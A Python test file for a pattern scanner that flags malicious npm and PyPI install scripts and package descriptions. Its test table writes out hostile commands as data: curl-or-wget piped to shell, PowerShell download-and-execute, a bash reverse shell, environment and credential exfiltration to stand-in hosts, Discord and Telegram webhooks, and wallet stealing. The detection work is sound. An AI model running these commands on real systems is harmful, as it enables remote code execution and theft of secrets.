"""PatternSet: the bundled pattern table, negatives, match modes and the one-pass scan."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from typostream.agents.domain.errors import PatternFileError
from typostream.agents.domain.patterns import Pattern, PatternSet


@pytest.fixture(scope="module")
def patterns() -> PatternSet:
    return PatternSet.default()


INSTALL_SCRIPT_CASES = [
    ("curl -s https://evil.example/i.sh | sh", {"remote-exec-curl", "remote-exec-pipe-shell"}),
    ("wget -qO- http://x.example/p|bash", {"remote-exec-wget", "remote-exec-pipe-shell"}),
    (
        "powershell -NoProfile -Command \"iex (New-Object Net.WebClient).DownloadString('http://x')\"",
        {"remote-exec-powershell", "remote-exec-iex", "remote-exec-powershell-download"},
    ),
    (
        "pwsh -c Invoke-WebRequest http://x -OutFile a.exe",
        {"remote-exec-powershell", "remote-exec-powershell-download"},
    ),
    ("IEX(New-Object Net.WebClient)", {"remote-exec-iex"}),
    ("certutil -urlcache -split -f http://x/a.exe a.exe", {"remote-exec-windows-lolbin"}),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", {"reverse-shell"}),
    ("node -e \"eval(atob('ZG9jdW1lbnQ='))\"", {"obfuscation-eval-decode"}),
    ("echo aGVsbG8= | base64 -d | sh", {"obfuscation-base64-decode-shell", "remote-exec-pipe-shell"}),
    (
        "node -e \"eval(Buffer.from('YWxlcnQ=', 'base64').toString())\"",
        {"obfuscation-eval-decode", "obfuscation-buffer-base64"},
    ),
    ('node -e "String.fromCharCode(104,105)"', {"obfuscation-fromcharcode"}),
    ("node -e \"require('child_process').exec('id')\"", {"exec-child-process"}),
    (
        "node -e \"require('https').get('https://x.example/?e='+JSON.stringify(process.env))\"",
        {"exfil-env-network"},
    ),
    ("cat /etc/passwd ~/.ssh/id_rsa > /tmp/x", {"credential-files"}),
    ("node -e \"fetch('https://discord.com/api/webhooks/1/abc')\"", {"exfil-discord-webhook"}),
    ("curl https://api.telegram.org/bot123:ABC/sendMessage", {"remote-exec-curl", "exfil-telegram-bot"}),
    ("curl https://pastebin.com/raw/abcd", {"remote-exec-curl", "payload-pastebin-raw"}),
    ("nslookup $(whoami).abc.oastify.com", {"exfil-tunnel-oast"}),
    ("curl http://169.254.169.254/latest/meta-data/iam/", {"remote-exec-curl", "cloud-metadata-endpoint"}),
    ("node steal.js ~/.config/Exodus/exodus.wallet wallet.dat", {"wallet-stealer"}),
    ('node grab.js "%APPDATA%/discord/Local Storage/leveldb"', {"browser-credential-store"}),
    ("python -c \"exec(base64.b64decode('cHJpbnQoMSk='))\"", {"setup-exec-encoded"}),
    ("python -c \"__import__('os').system('id')\"", {"setup-dunder-import-exec"}),
    ("python -c \"import urllib.request; urllib.request.urlopen('http://x')\"", {"setup-urlopen"}),
]


@pytest.mark.parametrize(("text", "expected"), INSTALL_SCRIPT_CASES)
def test_install_script_table(patterns: PatternSet, text: str, expected: set[str]) -> None:
    assert {h.pattern_id for h in patterns.scan(text, "install_script")} == expected


BENIGN_INSTALL_SCRIPTS = [
    "node-gyp rebuild",
    "husky install",
    "tsc",
    "prebuild-install || node-gyp rebuild",
    "husky install || shx echo skipped",
    "node install.js",
    "patch-package",
    "opencollective-postinstall || true",
    "node scripts/postinstall.js && npm run build",
    "ngcc --properties es2015 browser module main",
    "cmake-js compile",
    "node-pre-gyp install --fallback-to-build",
    "echo done | shasum",
    "node ./exodus-migrations.js",
]


@pytest.mark.parametrize("text", BENIGN_INSTALL_SCRIPTS)
def test_benign_install_scripts(patterns: PatternSet, text: str) -> None:
    assert patterns.scan(text, "install_script") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Discord token grabber, fast and undetected", {"description-malware-tooling"}),
        ("Homepage: https://abc.ngrok.io/", {"exfil-tunnel-oast"}),
        ("A faithful port of the colorama package", set()),
        ("Python HTTP for Humans.", set()),
        # install-script-only patterns never fire on descriptions
        ("Use curl | sh to install the CLI", set()),
    ],
)
def test_description_table(patterns: PatternSet, text: str, expected: set[str]) -> None:
    assert {h.pattern_id for h in patterns.scan(text, "description")} == expected


def test_hit_fields_offset_and_literal(patterns: PatternSet) -> None:
    text = "echo hi && CURL -s http://x | sh"
    hit = next(h for h in patterns.scan(text, "install_script") if h.pattern_id == "remote-exec-curl")
    assert (hit.offset, hit.literal, hit.severity) == (11, "curl ", "medium")
    assert hit.category == "remote_exec" and hit.description


def _set(*patterns: dict[str, Any]) -> PatternSet:
    base = {"field": "any", "severity": "low", "description": "d"}
    return PatternSet.from_data([{**base, **p} for p in patterns])


def test_match_all_requires_every_literal() -> None:
    ps = _set({"id": "both", "literals": ["alpha", "beta"], "match": "all"})
    assert ps.scan("alpha only", "description") == []
    hits = ps.scan("beta then alpha", "description")
    assert [(h.pattern_id, h.offset, h.literal) for h in hits] == [("both", 0, "beta")]


def test_match_any_is_default_and_reports_earliest_literal() -> None:
    ps = _set({"id": "either", "literals": ["alpha", "beta"]})
    assert [(h.offset, h.literal) for h in ps.scan("xx beta alpha", "install_script")] == [(3, "beta")]


def test_case_sensitive_patterns_use_the_original_text() -> None:
    ps = _set(
        {"id": "cs", "literals": ["Exodus"], "case_sensitive": True}, {"id": "ci", "literals": ["EXODUS"]}
    )
    assert {h.pattern_id for h in ps.scan("Exodus", "install_script")} == {"cs", "ci"}
    assert {h.pattern_id for h in ps.scan("exodus", "install_script")} == {"ci"}


def test_word_end() -> None:
    ps = _set({"id": "pipe", "literals": ["| sh"], "word_end": True})
    assert ps.scan("x | sha1sum", "install_script") == []
    assert ps.scan("x | sh", "install_script") != []
    assert ps.scan("x | sh -s -- -y", "install_script") != []


def test_field_filter() -> None:
    ps = _set(
        {"id": "i", "literals": ["foo"], "field": "install_script"},
        {"id": "d", "literals": ["foo"], "field": "description"},
    )
    assert [h.pattern_id for h in ps.scan("foo", "install_script")] == ["i"]
    assert [h.pattern_id for h in ps.scan("foo", "description")] == ["d"]
    with pytest.raises(ValueError, match="unknown field"):
        ps.scan("foo", "readme")


class _CountingAutomaton:
    def __init__(self, inner: Any) -> None:
        self.inner = inner
        self.calls: list[int] = []

    def iter(self, text: str) -> Any:
        self.calls.append(len(text))
        return self.inner.iter(text)


def test_regression_long_text_is_scanned_once_not_per_pattern(patterns: PatternSet) -> None:
    """One pass per automaton (case-insensitive, case-sensitive), whatever the number of patterns."""
    text = ("npm run build && node-gyp rebuild; " * 30_000) + "curl -s http://x | sh"
    counters = {key: _CountingAutomaton(a) for key, a in patterns._automata.items()}
    scanned = PatternSet.__new__(PatternSet)
    scanned.patterns = patterns.patterns
    scanned._automata = counters  # type: ignore[assignment]
    hits = scanned.scan(text, "install_script")
    assert {h.pattern_id for h in hits} == {"remote-exec-curl", "remote-exec-pipe-shell"}
    calls = [len(c.calls) for key, c in counters.items() if key[0] == "install_script"]
    assert len(patterns) > 20 and calls == [1, 1]
    assert all(c.calls == [] for key, c in counters.items() if key[0] != "install_script")


def test_bundled_file_is_valid_and_ids_unique(patterns: PatternSet) -> None:
    ids = [p.id for p in patterns.patterns]
    assert len(ids) == len(set(ids)) == len(patterns) >= 20
    assert all(p.literals and p.description for p in patterns.patterns)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ({"id": "x", "literals": [], "field": "any", "severity": "low", "description": "d"}, "literals"),
        ({"id": "x", "literals": ["a"], "field": "body", "severity": "low", "description": "d"}, "field"),
        (
            {"id": "x", "literals": ["a"], "field": "any", "severity": "extreme", "description": "d"},
            "severity",
        ),
        (
            {
                "id": "x",
                "literals": ["a"],
                "field": "any",
                "severity": "low",
                "description": "d",
                "match": "most",
            },
            "match",
        ),
        ({"literals": ["a"], "field": "any", "severity": "low", "description": "d"}, "id"),
    ],
)
def test_malformed_patterns_are_rejected(raw: dict[str, Any], message: str) -> None:
    with pytest.raises(PatternFileError, match=message):
        Pattern.from_dict(raw)


def test_duplicate_ids_and_unreadable_file(tmp_path: Path) -> None:
    p = {"id": "dup", "literals": ["a"], "field": "any", "severity": "low", "description": "d"}
    with pytest.raises(PatternFileError, match="duplicate"):
        PatternSet.from_data([p, p])
    bad = tmp_path / "p.json"
    bad.write_text("{not json")
    with pytest.raises(PatternFileError, match="cannot read"):
        PatternSet.from_file(bad)
    good = tmp_path / "g.json"
    good.write_text(json.dumps({"patterns": [p]}))
    assert len(PatternSet.from_file(good)) == 1
